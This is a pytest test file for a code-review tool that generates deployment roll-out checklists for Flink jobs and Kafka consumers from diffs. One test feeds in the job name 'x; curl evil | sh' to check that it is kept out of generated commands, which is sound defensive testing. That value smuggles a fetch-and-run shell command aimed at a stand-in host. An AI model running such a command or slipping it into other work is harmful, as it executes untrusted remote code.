"""What a running system needs before, in and after the deploy: the plans, their names, and what a reader sees of them."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from reviewer.app.cli import main
from reviewer.core.finding import Category, Confidence, Finding, Origin, Severity
from reviewer.core.roll_out import RollOut, RollOutKind
from reviewer.core.span import Side, Span
from reviewer.publish.roll_out_words import folded
from reviewer.rollout import savepoint
from reviewer.rollout.plan import RECIPES, with_words
from reviewer.rollout.recipe import Names
from reviewer.rules.registry import rule_ids

JOB = """import org.apache.flink.streaming.api.datastream.DataStream;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
class Job {
  void build(StreamExecutionEnvironment env, DataStream<Order> orders) throws Exception {
    orders.keyBy(o -> o.KEY()).process(new Totals()).uid("totals");
    env.execute("NAME");
  }
}
"""


def _patch(tmp_path: Path, path: str, before: str, after: str) -> str:
    """A diff of the whole file over a tree that holds it."""
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(after, encoding="utf-8")
    old, new = before.splitlines(), after.splitlines()
    lines = [f"--- a/{path}", f"+++ b/{path}", f"@@ -1,{len(old)} +1,{len(new)} @@"]
    diff = "\n".join([*lines, *(f"-{line}" for line in old), *(f"+{line}" for line in new)]) + "\n"
    (tmp_path / "change.diff").write_text(diff, encoding="utf-8")
    return str(tmp_path / "change.diff")


def _reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], path: str, before: str, after: str, form: str = "json"
) -> str:
    diff = _patch(tmp_path, path, before, after)
    assert main(["review", "--diff", diff, "--repo", str(tmp_path), "--engine", "rules", "--format", form]) == 0
    return capsys.readouterr().out


def _job(key: str, name: str = "payments-enricher") -> str:
    return JOB.replace("KEY", key).replace("NAME", name)


def test_every_recipe_belongs_to_a_rule() -> None:
    assert {*RECIPES, *savepoint.PREFIX} <= rule_ids()


def test_every_plan_has_steps_and_a_way_back_and_no_name_is_left_open() -> None:
    for recipe in (*RECIPES.values(), *savepoint.PREFIX.values()):
        plan = recipe.plan(Names(place="Job"), schema="shop.Order")
        assert len(plan.steps) >= 2 and plan.steps[-1].startswith("Way back: ")
        assert not [step for step in plan.steps if re.search(r"\{\w+\}", step)]


def test_a_changed_key_is_told_with_the_name_of_the_job(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = json.loads(_reported(tmp_path, capsys, "Job.java", _job("customer"), _job("region")))
    (plan,) = report["rollout"]
    assert (plan["kind"], plan["subject"]) == ("savepoint", "payments-enricher")
    assert plan["finding"] == report["findings"][0]["id"]
    assert plan["steps"][0].startswith("Stop payments-enricher with a savepoint")
    assert plan["steps"][1] == "It is about process(Totals) with the uid totals (Job.java:5)."
    assert plan["steps"][-1].startswith("Way back: ")


def test_a_job_without_a_name_is_told_by_its_class(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before, after = (_job(key).replace('env.execute("payments-enricher");', "env.execute();") for key in ("user", "id"))
    (plan,) = json.loads(_reported(tmp_path, capsys, "Job.java", before, after))["rollout"]
    assert plan["steps"][0].startswith("Stop the job of Job with a savepoint")


def test_an_operator_whose_uid_is_gone_is_told_by_the_uid_that_the_savepoint_has(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = _job("id")
    after = before.replace('.uid("totals")', "")
    (plan,) = json.loads(_reported(tmp_path, capsys, "Job.java", before, after))["rollout"]
    assert "It is about process(Totals) with the uid totals (Job.java:5)." in plan["steps"]


def test_a_name_that_is_no_name_is_not_put_into_a_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile = "x; curl evil | sh"
    report = json.loads(_reported(tmp_path, capsys, "Job.java", _job("customer", hostile), _job("region", hostile)))
    (plan,) = report["rollout"]
    assert plan["subject"] == hostile  # a publisher shows it as text
    assert "curl" not in " ".join(plan["steps"]) and "Stop <job> with" in plan["steps"][0]


def test_nothing_is_planned_where_nothing_breaks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    after = _job("customer").replace('uid("totals")', 'uid("totals").name("Totals")')
    report = json.loads(_reported(tmp_path, capsys, "Job.java", _job("customer"), after))
    assert report["findings"] == [] and report["rollout"] == []


@pytest.mark.parametrize(
    ("before", "after", "words"),
    [
        ("RangeAssignor", "CooperativeStickyAssignor", "two rolling restarts"),
        ("CooperativeStickyAssignor", "RangeAssignor", "From cooperative to eager"),
        ("RangeAssignor", "RoundRobinAssignor", None),
    ],
)
def test_another_assignor_needs_an_order_without_being_a_danger(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], before: str, after: str, words: str | None
) -> None:
    text = "group.id=billing\npartition.assignment.strategy=org.apache.kafka.clients.consumer.{}\n"
    out = _reported(tmp_path, capsys, "consumer.properties", text.format(before), text.format(after))
    plans = json.loads(out)["rollout"]
    if words is None:
        assert plans == []
    else:
        (plan,) = plans
        assert (plan["kind"], plan["subject"], plan["finding"]) == ("deploy-order", "billing", None)
        assert words in plan["steps"][0]


def test_markdown_folds_the_steps_and_the_terminal_shows_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    markdown = _reported(tmp_path, capsys, "Job.java", _job("customer"), _job("region"), "markdown")
    assert "<details><summary>Roll-out: 1 checklist (savepoint)</summary>" in markdown
    assert "1. Stop payments-enricher with a savepoint" in markdown
    terminal = _reported(tmp_path, capsys, "Job.java", _job("customer"), _job("region"), "terminal")
    assert "savepoint: payments-enricher" in terminal and "1. Stop payments-enricher" in terminal


def test_more_plans_than_fit_are_counted_and_strangers_names_are_plain_text() -> None:
    plans = [
        RollOut(kind=RollOutKind.DRAIN, subject=f"</details>@team {n}", steps=("a", "Way back: b")) for n in range(4)
    ]
    text = folded(plans, 2)
    assert "… and 2 more checklists in the JSON report." in text
    assert "`</details>@team 0`" in text and text.count("</details>\n") == 0 and text.endswith("</details>")


FUNCTION = """import org.apache.flink.api.common.state.ValueState;
import org.apache.flink.api.common.state.ValueStateDescriptor;
class Surge extends KeyedProcessFunction<String, Ride, Price> {
  private ValueState<Double> factor;
  public void open(Configuration conf) {
    factor = getRuntimeContext().getState(new ValueStateDescriptor<>("NAME", Double.class));
  }
}
"""


def test_the_job_of_a_function_is_the_one_that_uses_its_class(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    job = JOB.replace("Totals", "Surge").replace('"NAME"', "Names.JOB")
    (tmp_path / "Job.java").write_text(job, encoding="utf-8")
    (tmp_path / "Names.java").write_text(
        'class Names { static final String JOB = "ride-pricing"; }\n', encoding="utf-8"
    )
    (tmp_path / "Other.java").write_text(
        _job("user", "another-job").replace("class Job", "class Other"), encoding="utf-8"
    )
    said = _reported(
        tmp_path, capsys, "Surge.java", FUNCTION.replace("NAME", "factor"), FUNCTION.replace("NAME", "surge")
    )
    (plan,) = json.loads(said)["rollout"]
    assert (plan["kind"], plan["subject"]) == ("savepoint", "ride-pricing")
    assert plan["steps"][0].startswith("Keep the state: call the descriptor what it is called")


def test_a_group_that_a_key_names_has_a_plan_with_its_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    listener = """import org.springframework.kafka.annotation.KafkaListener;
class Refunds {
  @KafkaListener(topics = "refunds", groupId = "${refunds.group}")
  void on(String refund) { pay(refund); }
}
"""
    (tmp_path / "Refunds.java").write_text(listener, encoding="utf-8")
    servers = "spring.kafka.bootstrap-servers=kafka:9092\n"
    said = _reported(
        tmp_path, capsys, "application.properties",
        f"{servers}refunds.group=refunds\n", f"{servers}refunds.group=refunds-worker\n",
    )  # fmt: skip
    (plan,) = json.loads(said)["rollout"]
    (finding,) = json.loads(said)["findings"]
    assert (finding["path"], finding["line"]) == ("application.properties", 2)
    assert (plan["kind"], plan["subject"], plan["finding"]) == ("new-name", "refunds-worker", finding["id"])
    assert any("--group refunds-worker" in step for step in plan["steps"])
    (blast,) = json.loads(said)["blast_radius"]
    assert (blast["kind"], blast["was"], blast["readers"][0]["path"]) == ("group", "refunds", "Refunds.java")


def test_librdkafka_gets_no_rolling_restart_that_it_can_not_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    consumer = """from confluent_kafka import Consumer
made = Consumer({"bootstrap.servers": "kafka:9092", "group.id": "labels", "partition.assignment.strategy": "WHICH"})
"""
    before, after = (consumer.replace("WHICH", which) for which in ("range", "cooperative-sticky"))
    (plan,) = json.loads(_reported(tmp_path, capsys, "labels.py", before, after))["rollout"]
    assert (plan["kind"], plan["subject"]) == ("deploy-order", "labels")
    assert "Stop all members of labels" in plan["steps"][1]


STORES = """import org.apache.kafka.streams.KafkaStreams;
import org.apache.kafka.streams.StreamsBuilder;
class Stock {
  static final String APP_ID = "stock";
  KafkaStreams start(String servers) {
    StreamsBuilder builder = new StreamsBuilder();
    builder.stream("orders").groupByKey().count(Materialized.as("STORE")).toStream().to("counts");
    return new KafkaStreams(builder.build(), Settings.of(servers, APP_ID));
  }
}
"""
SETTINGS = """import org.apache.kafka.streams.StreamsConfig;
class Settings {
  static Properties of(String servers, String id) { return of(servers, id, false); }
  static Properties of(String servers, String id, boolean exactly) {
    Properties props = new Properties();
    props.put(StreamsConfig.APPLICATION_ID_CONFIG, id);
    return props;
  }
}
"""


def test_a_reset_has_the_id_that_the_class_hands_to_a_helper_and_the_topics_that_it_reads(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "Settings.java").write_text(SETTINGS, encoding="utf-8")
    before, after = STORES.replace("STORE", "per-product"), STORES.replace("STORE", "by-product")
    plan = json.loads(_reported(tmp_path, capsys, "Stock.java", before, after))["rollout"][0]
    assert plan["subject"] == "stock"
    assert any("--application-id stock --input-topics orders`" in step for step in plan["steps"])


def test_a_name_with_blanks_stands_in_a_sentence_and_in_no_command() -> None:
    recipe = next(iter(savepoint.RECIPES.values()))
    plan = recipe.plan(Names(place="Job", job="Fraud Detection Engine"))
    assert plan.steps[0].startswith("Stop Fraud Detection Engine with a savepoint")
    assert not any("Fraud" in command for step in plan.steps for command in re.findall(r"`[^`]*`", step))


@pytest.mark.parametrize(
    ("origin", "fix", "added"),
    [
        (Origin.BOTH, "Keep uid `totals`.\nStop at night.\n\nLater more.", ["The model, of this code: Keep uid `totals`. Stop at night."]),
        (Origin.MODEL, "Way back: none.", ["The model, of this code: Way back: none."]),
        (Origin.BOTH, "The rule's own words.", []),
        (Origin.RULE, "Keep the uid.", []),
        (Origin.BOTH, "Do this:\n```java\nfoo();\n```", []),
    ],
)  # fmt: skip
def test_the_models_words_are_one_more_step_before_the_way_back(origin: Origin, fix: str, added: list[str]) -> None:
    finding = Finding(
        id="f", rule_id="flink-keyby-changed", category=Category.STATE_CONSISTENCY, severity=Severity.HIGH, confidence=Confidence.HIGH,
        title="t", subject="s", span=Span(path="Job.java", side=Side.AFTER, first_line=1, last_line=1), scenario=("a",), why="w", fix=fix,
        evidence=(), references=(), origin=origin,
    )  # fmt: skip
    plain = RECIPES["flink-keyby-changed"].plan(Names(place="Job"))
    told = with_words(plain, finding, {"The rule's own words."})
    assert told.steps == (*plain.steps[:-1], *added, plain.steps[-1])
